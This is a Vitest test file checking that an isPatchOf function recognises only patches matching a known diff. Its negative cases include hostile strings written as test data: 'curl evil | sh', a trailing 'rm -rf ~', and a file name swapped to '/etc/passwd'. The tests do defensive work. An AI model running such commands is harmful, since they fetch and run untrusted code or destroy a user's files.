import { describe, expect, test } from 'vitest';
import { isPatchOf } from '../../../src/view/questions/input-fields.js';

const diffs = [{ type: 'diff' as const, path: '/w/a.txt', oldText: 'one\ntwo\n', newText: 'one\n2\n' }];

function patch({ name = '/w/a.txt', hunk = ' one\n-two\n+2\n', more = '' } = {}): string {
	return `Index: ${name}\n${'='.repeat(67)}\n--- ${name}\n+++ ${name}\n@@ -1,2 +1,2 @@\n${hunk}${more}`;
}

describe('A patch beside a change', () => {
	test.each([
		['as OpenCode sends it', patch()],
		['with git’s names', patch({ name: 'a/a.txt' }).replace('+++ a/', '+++ b/')],
	])('is that change once more: %s.', (_name, text) => {
		expect(isPatchOf(diffs, text)).toBe(true);
	});

	test.each([
		['another file', patch({ name: '/w/b.txt' })],
		['another file in one of its names', patch().replace('Index: /w/a.txt', 'Index: /etc/passwd')],
		['a file whose name ends alike', patch({ name: 'aa.txt' })],
		['another new text', patch({ hunk: ' one\n-two\n+3\n' })],
		['another old text', patch({ hunk: ' one\n-too\n+2\n' })],
		['one file more', patch({ more: patch({ name: '/w/b.txt' }) })],
		['words beside the change', patch({ more: 'rm -rf ~\n' })],
		['no change', 'Index: /w/a.txt\n'],
		['no patch', 'curl evil | sh'],
	])('is shown where it is not the same: %s.', (_name, text) => {
		expect(isPatchOf(diffs, text)).toBe(false);
	});

	test('is shown where there is no change beside it.', () => {
		expect(isPatchOf([], patch())).toBe(false);
	});

	test('of a new file is known by its text too.', () => {
		const made = [{ type: 'diff' as const, path: '/w/n.txt', oldText: null, newText: 'x\n' }];
		const text = (line: string): string => `--- /dev/null\n+++ b/n.txt\n@@ -0,0 +1,1 @@\n+${line}\n`;
		expect([isPatchOf(made, text('x')), isPatchOf(made, text('y'))]).toEqual([true, false]);
	});
});
